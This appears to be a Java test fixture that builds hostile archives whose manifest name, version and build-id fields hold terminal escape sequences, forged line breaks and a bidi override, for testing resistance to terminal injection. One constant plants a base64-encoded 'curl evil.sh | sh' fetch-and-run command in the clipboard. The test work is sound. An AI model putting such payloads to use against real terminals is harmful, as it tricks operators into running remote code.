package dev.slipway.format.hostile;

import static dev.slipway.format.hostile.HostileArchives.A;
import static dev.slipway.format.hostile.HostileArchives.HELLO;
import static dev.slipway.format.hostile.HostileArchives.editedManifestJson;
import static dev.slipway.format.hostile.HostileArchives.gz;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.slipway.format.ArchiveLayout;

/**
 * Attacks on the operator's terminal through the manifest fields every command prints (issue
 * #20): escape sequences and line breaks in {@code app.name}, {@code app.version} and {@code
 * buildId}. The records refuse them, so the JSON is edited by hand.
 */
public final class HostileTextArchives {
  static final String OSC_TITLE = "demo\u001b]0;pwned\u0007";
  static final String OSC_CLIPBOARD = "demo\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007";
  static final String CLEAR_SCREEN = "\u001b[2Jdemo";
  static final String FORGED_LINE = "1.0.0\nok: forged line";
  static final String BIDI = "build\u202e1-dliub";

  private HostileTextArchives() {}

  static byte[] withApp(String name, String version) {
    byte[] json = editedManifestJson(tree -> {
      ((ObjectNode) tree.get("app")).put("name", name).put("version", version);
      return tree;
    }, A, HELLO);
    return gz(new TarBuilder().file(ArchiveLayout.MANIFEST, json).file(A, HELLO));
  }

  static byte[] withBuildId(String buildId) {
    byte[] json = editedManifestJson(tree -> tree.put("buildId", buildId), A, HELLO);
    return gz(new TarBuilder().file(ArchiveLayout.MANIFEST, json).file(A, HELLO));
  }
}
